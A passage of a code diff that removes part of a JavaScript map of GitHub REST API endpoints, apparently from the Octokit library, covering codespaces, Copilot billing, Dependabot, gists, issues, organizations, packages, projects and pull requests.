-          "DELETE /user/codespaces/secrets/{secret_name}"
-        ],
-        exportForAuthenticatedUser: [
-          "POST /user/codespaces/{codespace_name}/exports"
-        ],
-        getCodespacesForUserInOrg: [
-          "GET /orgs/{org}/members/{username}/codespaces"
-        ],
-        getExportDetailsForAuthenticatedUser: [
-          "GET /user/codespaces/{codespace_name}/exports/{export_id}"
-        ],
-        getForAuthenticatedUser: ["GET /user/codespaces/{codespace_name}"],
-        getOrgPublicKey: ["GET /orgs/{org}/codespaces/secrets/public-key"],
-        getOrgSecret: ["GET /orgs/{org}/codespaces/secrets/{secret_name}"],
-        getPublicKeyForAuthenticatedUser: [
-          "GET /user/codespaces/secrets/public-key"
-        ],
-        getRepoPublicKey: [
-          "GET /repos/{owner}/{repo}/codespaces/secrets/public-key"
-        ],
-        getRepoSecret: [
-          "GET /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
-        ],
-        getSecretForAuthenticatedUser: [
-          "GET /user/codespaces/secrets/{secret_name}"
-        ],
-        listDevcontainersInRepositoryForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces/devcontainers"
-        ],
-        listForAuthenticatedUser: ["GET /user/codespaces"],
-        listInOrganization: [
-          "GET /orgs/{org}/codespaces",
-          {},
-          { renamedParameters: { org_id: "org" } }
-        ],
-        listInRepositoryForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces"
-        ],
-        listOrgSecrets: ["GET /orgs/{org}/codespaces/secrets"],
-        listRepoSecrets: ["GET /repos/{owner}/{repo}/codespaces/secrets"],
-        listRepositoriesForSecretForAuthenticatedUser: [
-          "GET /user/codespaces/secrets/{secret_name}/repositories"
-        ],
-        listSecretsForAuthenticatedUser: ["GET /user/codespaces/secrets"],
-        listSelectedReposForOrgSecret: [
-          "GET /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
-        ],
-        preFlightWithRepoForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces/new"
-        ],
-        publishForAuthenticatedUser: [
-          "POST /user/codespaces/{codespace_name}/publish"
-        ],
-        removeRepositoryForSecretForAuthenticatedUser: [
-          "DELETE /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        removeSelectedRepoFromOrgSecret: [
-          "DELETE /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        repoMachinesForAuthenticatedUser: [
-          "GET /repos/{owner}/{repo}/codespaces/machines"
-        ],
-        setRepositoriesForSecretForAuthenticatedUser: [
-          "PUT /user/codespaces/secrets/{secret_name}/repositories"
-        ],
-        setSelectedReposForOrgSecret: [
-          "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories"
-        ],
-        startForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/start"],
-        stopForAuthenticatedUser: ["POST /user/codespaces/{codespace_name}/stop"],
-        stopInOrganization: [
-          "POST /orgs/{org}/members/{username}/codespaces/{codespace_name}/stop"
-        ],
-        updateForAuthenticatedUser: ["PATCH /user/codespaces/{codespace_name}"]
-      },
-      copilot: {
-        addCopilotSeatsForTeams: [
-          "POST /orgs/{org}/copilot/billing/selected_teams"
-        ],
-        addCopilotSeatsForUsers: [
-          "POST /orgs/{org}/copilot/billing/selected_users"
-        ],
-        cancelCopilotSeatAssignmentForTeams: [
-          "DELETE /orgs/{org}/copilot/billing/selected_teams"
-        ],
-        cancelCopilotSeatAssignmentForUsers: [
-          "DELETE /orgs/{org}/copilot/billing/selected_users"
-        ],
-        copilotMetricsForOrganization: ["GET /orgs/{org}/copilot/metrics"],
-        copilotMetricsForTeam: ["GET /orgs/{org}/team/{team_slug}/copilot/metrics"],
-        getCopilotOrganizationDetails: ["GET /orgs/{org}/copilot/billing"],
-        getCopilotSeatDetailsForUser: [
-          "GET /orgs/{org}/members/{username}/copilot"
-        ],
-        listCopilotSeats: ["GET /orgs/{org}/copilot/billing/seats"],
-        usageMetricsForOrg: ["GET /orgs/{org}/copilot/usage"],
-        usageMetricsForTeam: ["GET /orgs/{org}/team/{team_slug}/copilot/usage"]
-      },
-      dependabot: {
-        addSelectedRepoToOrgSecret: [
-          "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        createOrUpdateOrgSecret: [
-          "PUT /orgs/{org}/dependabot/secrets/{secret_name}"
-        ],
-        createOrUpdateRepoSecret: [
-          "PUT /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
-        ],
-        deleteOrgSecret: ["DELETE /orgs/{org}/dependabot/secrets/{secret_name}"],
-        deleteRepoSecret: [
-          "DELETE /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
-        ],
-        getAlert: ["GET /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"],
-        getOrgPublicKey: ["GET /orgs/{org}/dependabot/secrets/public-key"],
-        getOrgSecret: ["GET /orgs/{org}/dependabot/secrets/{secret_name}"],
-        getRepoPublicKey: [
-          "GET /repos/{owner}/{repo}/dependabot/secrets/public-key"
-        ],
-        getRepoSecret: [
-          "GET /repos/{owner}/{repo}/dependabot/secrets/{secret_name}"
-        ],
-        listAlertsForEnterprise: [
-          "GET /enterprises/{enterprise}/dependabot/alerts"
-        ],
-        listAlertsForOrg: ["GET /orgs/{org}/dependabot/alerts"],
-        listAlertsForRepo: ["GET /repos/{owner}/{repo}/dependabot/alerts"],
-        listOrgSecrets: ["GET /orgs/{org}/dependabot/secrets"],
-        listRepoSecrets: ["GET /repos/{owner}/{repo}/dependabot/secrets"],
-        listSelectedReposForOrgSecret: [
-          "GET /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
-        ],
-        removeSelectedRepoFromOrgSecret: [
-          "DELETE /orgs/{org}/dependabot/secrets/{secret_name}/repositories/{repository_id}"
-        ],
-        setSelectedReposForOrgSecret: [
-          "PUT /orgs/{org}/dependabot/secrets/{secret_name}/repositories"
-        ],
-        updateAlert: [
-          "PATCH /repos/{owner}/{repo}/dependabot/alerts/{alert_number}"
-        ]
-      },
-      dependencyGraph: {
-        createRepositorySnapshot: [
-          "POST /repos/{owner}/{repo}/dependency-graph/snapshots"
-        ],
-        diffRange: [
-          "GET /repos/{owner}/{repo}/dependency-graph/compare/{basehead}"
-        ],
-        exportSbom: ["GET /repos/{owner}/{repo}/dependency-graph/sbom"]
-      },
-      emojis: { get: ["GET /emojis"] },
-      gists: {
-        checkIsStarred: ["GET /gists/{gist_id}/star"],
-        create: ["POST /gists"],
-        createComment: ["POST /gists/{gist_id}/comments"],
-        delete: ["DELETE /gists/{gist_id}"],
-        deleteComment: ["DELETE /gists/{gist_id}/comments/{comment_id}"],
-        fork: ["POST /gists/{gist_id}/forks"],
-        get: ["GET /gists/{gist_id}"],
-        getComment: ["GET /gists/{gist_id}/comments/{comment_id}"],
-        getRevision: ["GET /gists/{gist_id}/{sha}"],
-        list: ["GET /gists"],
-        listComments: ["GET /gists/{gist_id}/comments"],
-        listCommits: ["GET /gists/{gist_id}/commits"],
-        listForUser: ["GET /users/{username}/gists"],
-        listForks: ["GET /gists/{gist_id}/forks"],
-        listPublic: ["GET /gists/public"],
-        listStarred: ["GET /gists/starred"],
-        star: ["PUT /gists/{gist_id}/star"],
-        unstar: ["DELETE /gists/{gist_id}/star"],
-        update: ["PATCH /gists/{gist_id}"],
-        updateComment: ["PATCH /gists/{gist_id}/comments/{comment_id}"]
-      },
-      git: {
-        createBlob: ["POST /repos/{owner}/{repo}/git/blobs"],
-        createCommit: ["POST /repos/{owner}/{repo}/git/commits"],
-        createRef: ["POST /repos/{owner}/{repo}/git/refs"],
-        createTag: ["POST /repos/{owner}/{repo}/git/tags"],
-        createTree: ["POST /repos/{owner}/{repo}/git/trees"],
-        deleteRef: ["DELETE /repos/{owner}/{repo}/git/refs/{ref}"],
-        getBlob: ["GET /repos/{owner}/{repo}/git/blobs/{file_sha}"],
-        getCommit: ["GET /repos/{owner}/{repo}/git/commits/{commit_sha}"],
-        getRef: ["GET /repos/{owner}/{repo}/git/ref/{ref}"],
-        getTag: ["GET /repos/{owner}/{repo}/git/tags/{tag_sha}"],
-        getTree: ["GET /repos/{owner}/{repo}/git/trees/{tree_sha}"],
-        listMatchingRefs: ["GET /repos/{owner}/{repo}/git/matching-refs/{ref}"],
-        updateRef: ["PATCH /repos/{owner}/{repo}/git/refs/{ref}"]
-      },
-      gitignore: {
-        getAllTemplates: ["GET /gitignore/templates"],
-        getTemplate: ["GET /gitignore/templates/{name}"]
-      },
-      interactions: {
-        getRestrictionsForAuthenticatedUser: ["GET /user/interaction-limits"],
-        getRestrictionsForOrg: ["GET /orgs/{org}/interaction-limits"],
-        getRestrictionsForRepo: ["GET /repos/{owner}/{repo}/interaction-limits"],
-        getRestrictionsForYourPublicRepos: [
-          "GET /user/interaction-limits",
-          {},
-          { renamed: ["interactions", "getRestrictionsForAuthenticatedUser"] }
-        ],
-        removeRestrictionsForAuthenticatedUser: ["DELETE /user/interaction-limits"],
-        removeRestrictionsForOrg: ["DELETE /orgs/{org}/interaction-limits"],
-        removeRestrictionsForRepo: [
-          "DELETE /repos/{owner}/{repo}/interaction-limits"
-        ],
-        removeRestrictionsForYourPublicRepos: [
-          "DELETE /user/interaction-limits",
-          {},
-          { renamed: ["interactions", "removeRestrictionsForAuthenticatedUser"] }
-        ],
-        setRestrictionsForAuthenticatedUser: ["PUT /user/interaction-limits"],
-        setRestrictionsForOrg: ["PUT /orgs/{org}/interaction-limits"],
-        setRestrictionsForRepo: ["PUT /repos/{owner}/{repo}/interaction-limits"],
-        setRestrictionsForYourPublicRepos: [
-          "PUT /user/interaction-limits",
-          {},
-          { renamed: ["interactions", "setRestrictionsForAuthenticatedUser"] }
-        ]
-      },
-      issues: {
-        addAssignees: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/assignees"
-        ],
-        addLabels: ["POST /repos/{owner}/{repo}/issues/{issue_number}/labels"],
-        addSubIssue: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
-        ],
-        checkUserCanBeAssigned: ["GET /repos/{owner}/{repo}/assignees/{assignee}"],
-        checkUserCanBeAssignedToIssue: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/assignees/{assignee}"
-        ],
-        create: ["POST /repos/{owner}/{repo}/issues"],
-        createComment: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/comments"
-        ],
-        createLabel: ["POST /repos/{owner}/{repo}/labels"],
-        createMilestone: ["POST /repos/{owner}/{repo}/milestones"],
-        deleteComment: [
-          "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}"
-        ],
-        deleteLabel: ["DELETE /repos/{owner}/{repo}/labels/{name}"],
-        deleteMilestone: [
-          "DELETE /repos/{owner}/{repo}/milestones/{milestone_number}"
-        ],
-        get: ["GET /repos/{owner}/{repo}/issues/{issue_number}"],
-        getComment: ["GET /repos/{owner}/{repo}/issues/comments/{comment_id}"],
-        getEvent: ["GET /repos/{owner}/{repo}/issues/events/{event_id}"],
-        getLabel: ["GET /repos/{owner}/{repo}/labels/{name}"],
-        getMilestone: ["GET /repos/{owner}/{repo}/milestones/{milestone_number}"],
-        list: ["GET /issues"],
-        listAssignees: ["GET /repos/{owner}/{repo}/assignees"],
-        listComments: ["GET /repos/{owner}/{repo}/issues/{issue_number}/comments"],
-        listCommentsForRepo: ["GET /repos/{owner}/{repo}/issues/comments"],
-        listEvents: ["GET /repos/{owner}/{repo}/issues/{issue_number}/events"],
-        listEventsForRepo: ["GET /repos/{owner}/{repo}/issues/events"],
-        listEventsForTimeline: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/timeline"
-        ],
-        listForAuthenticatedUser: ["GET /user/issues"],
-        listForOrg: ["GET /orgs/{org}/issues"],
-        listForRepo: ["GET /repos/{owner}/{repo}/issues"],
-        listLabelsForMilestone: [
-          "GET /repos/{owner}/{repo}/milestones/{milestone_number}/labels"
-        ],
-        listLabelsForRepo: ["GET /repos/{owner}/{repo}/labels"],
-        listLabelsOnIssue: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/labels"
-        ],
-        listMilestones: ["GET /repos/{owner}/{repo}/milestones"],
-        listSubIssues: [
-          "GET /repos/{owner}/{repo}/issues/{issue_number}/sub_issues"
-        ],
-        lock: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/lock"],
-        removeAllLabels: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels"
-        ],
-        removeAssignees: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/assignees"
-        ],
-        removeLabel: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/labels/{name}"
-        ],
-        removeSubIssue: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/sub_issue"
-        ],
-        reprioritizeSubIssue: [
-          "PATCH /repos/{owner}/{repo}/issues/{issue_number}/sub_issues/priority"
-        ],
-        setLabels: ["PUT /repos/{owner}/{repo}/issues/{issue_number}/labels"],
-        unlock: ["DELETE /repos/{owner}/{repo}/issues/{issue_number}/lock"],
-        update: ["PATCH /repos/{owner}/{repo}/issues/{issue_number}"],
-        updateComment: ["PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}"],
-        updateLabel: ["PATCH /repos/{owner}/{repo}/labels/{name}"],
-        updateMilestone: [
-          "PATCH /repos/{owner}/{repo}/milestones/{milestone_number}"
-        ]
-      },
-      licenses: {
-        get: ["GET /licenses/{license}"],
-        getAllCommonlyUsed: ["GET /licenses"],
-        getForRepo: ["GET /repos/{owner}/{repo}/license"]
-      },
-      markdown: {
-        render: ["POST /markdown"],
-        renderRaw: [
-          "POST /markdown/raw",
-          { headers: { "content-type": "text/plain; charset=utf-8" } }
-        ]
-      },
-      meta: {
-        get: ["GET /meta"],
-        getAllVersions: ["GET /versions"],
-        getOctocat: ["GET /octocat"],
-        getZen: ["GET /zen"],
-        root: ["GET /"]
-      },
-      migrations: {
-        deleteArchiveForAuthenticatedUser: [
-          "DELETE /user/migrations/{migration_id}/archive"
-        ],
-        deleteArchiveForOrg: [
-          "DELETE /orgs/{org}/migrations/{migration_id}/archive"
-        ],
-        downloadArchiveForOrg: [
-          "GET /orgs/{org}/migrations/{migration_id}/archive"
-        ],
-        getArchiveForAuthenticatedUser: [
-          "GET /user/migrations/{migration_id}/archive"
-        ],
-        getStatusForAuthenticatedUser: ["GET /user/migrations/{migration_id}"],
-        getStatusForOrg: ["GET /orgs/{org}/migrations/{migration_id}"],
-        listForAuthenticatedUser: ["GET /user/migrations"],
-        listForOrg: ["GET /orgs/{org}/migrations"],
-        listReposForAuthenticatedUser: [
-          "GET /user/migrations/{migration_id}/repositories"
-        ],
-        listReposForOrg: ["GET /orgs/{org}/migrations/{migration_id}/repositories"],
-        listReposForUser: [
-          "GET /user/migrations/{migration_id}/repositories",
-          {},
-          { renamed: ["migrations", "listReposForAuthenticatedUser"] }
-        ],
-        startForAuthenticatedUser: ["POST /user/migrations"],
-        startForOrg: ["POST /orgs/{org}/migrations"],
-        unlockRepoForAuthenticatedUser: [
-          "DELETE /user/migrations/{migration_id}/repos/{repo_name}/lock"
-        ],
-        unlockRepoForOrg: [
-          "DELETE /orgs/{org}/migrations/{migration_id}/repos/{repo_name}/lock"
-        ]
-      },
-      oidc: {
-        getOidcCustomSubTemplateForOrg: [
-          "GET /orgs/{org}/actions/oidc/customization/sub"
-        ],
-        updateOidcCustomSubTemplateForOrg: [
-          "PUT /orgs/{org}/actions/oidc/customization/sub"
-        ]
-      },
-      orgs: {
-        addSecurityManagerTeam: [
-          "PUT /orgs/{org}/security-managers/teams/{team_slug}",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.addSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#add-a-security-manager-team"
-          }
-        ],
-        assignTeamToOrgRole: [
-          "PUT /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
-        ],
-        assignUserToOrgRole: [
-          "PUT /orgs/{org}/organization-roles/users/{username}/{role_id}"
-        ],
-        blockUser: ["PUT /orgs/{org}/blocks/{username}"],
-        cancelInvitation: ["DELETE /orgs/{org}/invitations/{invitation_id}"],
-        checkBlockedUser: ["GET /orgs/{org}/blocks/{username}"],
-        checkMembershipForUser: ["GET /orgs/{org}/members/{username}"],
-        checkPublicMembershipForUser: ["GET /orgs/{org}/public_members/{username}"],
-        convertMemberToOutsideCollaborator: [
-          "PUT /orgs/{org}/outside_collaborators/{username}"
-        ],
-        createInvitation: ["POST /orgs/{org}/invitations"],
-        createOrUpdateCustomProperties: ["PATCH /orgs/{org}/properties/schema"],
-        createOrUpdateCustomPropertiesValuesForRepos: [
-          "PATCH /orgs/{org}/properties/values"
-        ],
-        createOrUpdateCustomProperty: [
-          "PUT /orgs/{org}/properties/schema/{custom_property_name}"
-        ],
-        createWebhook: ["POST /orgs/{org}/hooks"],
-        delete: ["DELETE /orgs/{org}"],
-        deleteWebhook: ["DELETE /orgs/{org}/hooks/{hook_id}"],
-        enableOrDisableSecurityProductOnAllOrgRepos: [
-          "POST /orgs/{org}/{security_product}/{enablement}",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.enableOrDisableSecurityProductOnAllOrgRepos() is deprecated, see https://docs.github.com/rest/orgs/orgs#enable-or-disable-a-security-feature-for-an-organization"
-          }
-        ],
-        get: ["GET /orgs/{org}"],
-        getAllCustomProperties: ["GET /orgs/{org}/properties/schema"],
-        getCustomProperty: [
-          "GET /orgs/{org}/properties/schema/{custom_property_name}"
-        ],
-        getMembershipForAuthenticatedUser: ["GET /user/memberships/orgs/{org}"],
-        getMembershipForUser: ["GET /orgs/{org}/memberships/{username}"],
-        getOrgRole: ["GET /orgs/{org}/organization-roles/{role_id}"],
-        getWebhook: ["GET /orgs/{org}/hooks/{hook_id}"],
-        getWebhookConfigForOrg: ["GET /orgs/{org}/hooks/{hook_id}/config"],
-        getWebhookDelivery: [
-          "GET /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}"
-        ],
-        list: ["GET /organizations"],
-        listAppInstallations: ["GET /orgs/{org}/installations"],
-        listAttestations: ["GET /orgs/{org}/attestations/{subject_digest}"],
-        listBlockedUsers: ["GET /orgs/{org}/blocks"],
-        listCustomPropertiesValuesForRepos: ["GET /orgs/{org}/properties/values"],
-        listFailedInvitations: ["GET /orgs/{org}/failed_invitations"],
-        listForAuthenticatedUser: ["GET /user/orgs"],
-        listForUser: ["GET /users/{username}/orgs"],
-        listInvitationTeams: ["GET /orgs/{org}/invitations/{invitation_id}/teams"],
-        listMembers: ["GET /orgs/{org}/members"],
-        listMembershipsForAuthenticatedUser: ["GET /user/memberships/orgs"],
-        listOrgRoleTeams: ["GET /orgs/{org}/organization-roles/{role_id}/teams"],
-        listOrgRoleUsers: ["GET /orgs/{org}/organization-roles/{role_id}/users"],
-        listOrgRoles: ["GET /orgs/{org}/organization-roles"],
-        listOrganizationFineGrainedPermissions: [
-          "GET /orgs/{org}/organization-fine-grained-permissions"
-        ],
-        listOutsideCollaborators: ["GET /orgs/{org}/outside_collaborators"],
-        listPatGrantRepositories: [
-          "GET /orgs/{org}/personal-access-tokens/{pat_id}/repositories"
-        ],
-        listPatGrantRequestRepositories: [
-          "GET /orgs/{org}/personal-access-token-requests/{pat_request_id}/repositories"
-        ],
-        listPatGrantRequests: ["GET /orgs/{org}/personal-access-token-requests"],
-        listPatGrants: ["GET /orgs/{org}/personal-access-tokens"],
-        listPendingInvitations: ["GET /orgs/{org}/invitations"],
-        listPublicMembers: ["GET /orgs/{org}/public_members"],
-        listSecurityManagerTeams: [
-          "GET /orgs/{org}/security-managers",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.listSecurityManagerTeams() is deprecated, see https://docs.github.com/rest/orgs/security-managers#list-security-manager-teams"
-          }
-        ],
-        listWebhookDeliveries: ["GET /orgs/{org}/hooks/{hook_id}/deliveries"],
-        listWebhooks: ["GET /orgs/{org}/hooks"],
-        pingWebhook: ["POST /orgs/{org}/hooks/{hook_id}/pings"],
-        redeliverWebhookDelivery: [
-          "POST /orgs/{org}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
-        ],
-        removeCustomProperty: [
-          "DELETE /orgs/{org}/properties/schema/{custom_property_name}"
-        ],
-        removeMember: ["DELETE /orgs/{org}/members/{username}"],
-        removeMembershipForUser: ["DELETE /orgs/{org}/memberships/{username}"],
-        removeOutsideCollaborator: [
-          "DELETE /orgs/{org}/outside_collaborators/{username}"
-        ],
-        removePublicMembershipForAuthenticatedUser: [
-          "DELETE /orgs/{org}/public_members/{username}"
-        ],
-        removeSecurityManagerTeam: [
-          "DELETE /orgs/{org}/security-managers/teams/{team_slug}",
-          {},
-          {
-            deprecated: "octokit.rest.orgs.removeSecurityManagerTeam() is deprecated, see https://docs.github.com/rest/orgs/security-managers#remove-a-security-manager-team"
-          }
-        ],
-        reviewPatGrantRequest: [
-          "POST /orgs/{org}/personal-access-token-requests/{pat_request_id}"
-        ],
-        reviewPatGrantRequestsInBulk: [
-          "POST /orgs/{org}/personal-access-token-requests"
-        ],
-        revokeAllOrgRolesTeam: [
-          "DELETE /orgs/{org}/organization-roles/teams/{team_slug}"
-        ],
-        revokeAllOrgRolesUser: [
-          "DELETE /orgs/{org}/organization-roles/users/{username}"
-        ],
-        revokeOrgRoleTeam: [
-          "DELETE /orgs/{org}/organization-roles/teams/{team_slug}/{role_id}"
-        ],
-        revokeOrgRoleUser: [
-          "DELETE /orgs/{org}/organization-roles/users/{username}/{role_id}"
-        ],
-        setMembershipForUser: ["PUT /orgs/{org}/memberships/{username}"],
-        setPublicMembershipForAuthenticatedUser: [
-          "PUT /orgs/{org}/public_members/{username}"
-        ],
-        unblockUser: ["DELETE /orgs/{org}/blocks/{username}"],
-        update: ["PATCH /orgs/{org}"],
-        updateMembershipForAuthenticatedUser: [
-          "PATCH /user/memberships/orgs/{org}"
-        ],
-        updatePatAccess: ["POST /orgs/{org}/personal-access-tokens/{pat_id}"],
-        updatePatAccesses: ["POST /orgs/{org}/personal-access-tokens"],
-        updateWebhook: ["PATCH /orgs/{org}/hooks/{hook_id}"],
-        updateWebhookConfigForOrg: ["PATCH /orgs/{org}/hooks/{hook_id}/config"]
-      },
-      packages: {
-        deletePackageForAuthenticatedUser: [
-          "DELETE /user/packages/{package_type}/{package_name}"
-        ],
-        deletePackageForOrg: [
-          "DELETE /orgs/{org}/packages/{package_type}/{package_name}"
-        ],
-        deletePackageForUser: [
-          "DELETE /users/{username}/packages/{package_type}/{package_name}"
-        ],
-        deletePackageVersionForAuthenticatedUser: [
-          "DELETE /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        deletePackageVersionForOrg: [
-          "DELETE /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        deletePackageVersionForUser: [
-          "DELETE /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        getAllPackageVersionsForAPackageOwnedByAnOrg: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}/versions",
-          {},
-          { renamed: ["packages", "getAllPackageVersionsForPackageOwnedByOrg"] }
-        ],
-        getAllPackageVersionsForAPackageOwnedByTheAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}/versions",
-          {},
-          {
-            renamed: [
-              "packages",
-              "getAllPackageVersionsForPackageOwnedByAuthenticatedUser"
-            ]
-          }
-        ],
-        getAllPackageVersionsForPackageOwnedByAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}/versions"
-        ],
-        getAllPackageVersionsForPackageOwnedByOrg: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}/versions"
-        ],
-        getAllPackageVersionsForPackageOwnedByUser: [
-          "GET /users/{username}/packages/{package_type}/{package_name}/versions"
-        ],
-        getPackageForAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}"
-        ],
-        getPackageForOrganization: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}"
-        ],
-        getPackageForUser: [
-          "GET /users/{username}/packages/{package_type}/{package_name}"
-        ],
-        getPackageVersionForAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        getPackageVersionForOrganization: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        getPackageVersionForUser: [
-          "GET /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        listDockerMigrationConflictingPackagesForAuthenticatedUser: [
-          "GET /user/docker/conflicts"
-        ],
-        listDockerMigrationConflictingPackagesForOrganization: [
-          "GET /orgs/{org}/docker/conflicts"
-        ],
-        listDockerMigrationConflictingPackagesForUser: [
-          "GET /users/{username}/docker/conflicts"
-        ],
-        listPackagesForAuthenticatedUser: ["GET /user/packages"],
-        listPackagesForOrganization: ["GET /orgs/{org}/packages"],
-        listPackagesForUser: ["GET /users/{username}/packages"],
-        restorePackageForAuthenticatedUser: [
-          "POST /user/packages/{package_type}/{package_name}/restore{?token}"
-        ],
-        restorePackageForOrg: [
-          "POST /orgs/{org}/packages/{package_type}/{package_name}/restore{?token}"
-        ],
-        restorePackageForUser: [
-          "POST /users/{username}/packages/{package_type}/{package_name}/restore{?token}"
-        ],
-        restorePackageVersionForAuthenticatedUser: [
-          "POST /user/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
-        ],
-        restorePackageVersionForOrg: [
-          "POST /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
-        ],
-        restorePackageVersionForUser: [
-          "POST /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
-        ]
-      },
-      privateRegistries: {
-        createOrgPrivateRegistry: ["POST /orgs/{org}/private-registries"],
-        deleteOrgPrivateRegistry: [
-          "DELETE /orgs/{org}/private-registries/{secret_name}"
-        ],
-        getOrgPrivateRegistry: ["GET /orgs/{org}/private-registries/{secret_name}"],
-        getOrgPublicKey: ["GET /orgs/{org}/private-registries/public-key"],
-        listOrgPrivateRegistries: ["GET /orgs/{org}/private-registries"],
-        updateOrgPrivateRegistry: [
-          "PATCH /orgs/{org}/private-registries/{secret_name}"
-        ]
-      },
-      projects: {
-        addCollaborator: ["PUT /projects/{project_id}/collaborators/{username}"],
-        createCard: ["POST /projects/columns/{column_id}/cards"],
-        createColumn: ["POST /projects/{project_id}/columns"],
-        createForAuthenticatedUser: ["POST /user/projects"],
-        createForOrg: ["POST /orgs/{org}/projects"],
-        createForRepo: ["POST /repos/{owner}/{repo}/projects"],
-        delete: ["DELETE /projects/{project_id}"],
-        deleteCard: ["DELETE /projects/columns/cards/{card_id}"],
-        deleteColumn: ["DELETE /projects/columns/{column_id}"],
-        get: ["GET /projects/{project_id}"],
-        getCard: ["GET /projects/columns/cards/{card_id}"],
-        getColumn: ["GET /projects/columns/{column_id}"],
-        getPermissionForUser: [
-          "GET /projects/{project_id}/collaborators/{username}/permission"
-        ],
-        listCards: ["GET /projects/columns/{column_id}/cards"],
-        listCollaborators: ["GET /projects/{project_id}/collaborators"],
-        listColumns: ["GET /projects/{project_id}/columns"],
-        listForOrg: ["GET /orgs/{org}/projects"],
-        listForRepo: ["GET /repos/{owner}/{repo}/projects"],
-        listForUser: ["GET /users/{username}/projects"],
-        moveCard: ["POST /projects/columns/cards/{card_id}/moves"],
-        moveColumn: ["POST /projects/columns/{column_id}/moves"],
-        removeCollaborator: [
-          "DELETE /projects/{project_id}/collaborators/{username}"
-        ],
-        update: ["PATCH /projects/{project_id}"],
-        updateCard: ["PATCH /projects/columns/cards/{card_id}"],
-        updateColumn: ["PATCH /projects/columns/{column_id}"]
-      },
-      pulls: {
-        checkIfMerged: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
-        create: ["POST /repos/{owner}/{repo}/pulls"],
-        createReplyForReviewComment: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments/{comment_id}/replies"
-        ],
-        createReview: ["POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
-        createReviewComment: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments"
-        ],
-        deletePendingReview: [
-          "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
-        ],
-        deleteReviewComment: [
-          "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}"
-        ],
-        dismissReview: [
-          "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/dismissals"
-        ],
-        get: ["GET /repos/{owner}/{repo}/pulls/{pull_number}"],
-        getReview: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
-        ],
-        getReviewComment: ["GET /repos/{owner}/{repo}/pulls/comments/{comment_id}"],
-        list: ["GET /repos/{owner}/{repo}/pulls"],
-        listCommentsForReview: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/comments"
-        ],
-        listCommits: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/commits"],
-        listFiles: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/files"],
-        listRequestedReviewers: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
-        ],
-        listReviewComments: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/comments"
-        ],
-        listReviewCommentsForRepo: ["GET /repos/{owner}/{repo}/pulls/comments"],
-        listReviews: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
-        merge: ["PUT /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
-        removeRequestedReviewers: [
-          "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
-        ],
-        requestReviewers: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
-        ],
-        submitReview: [
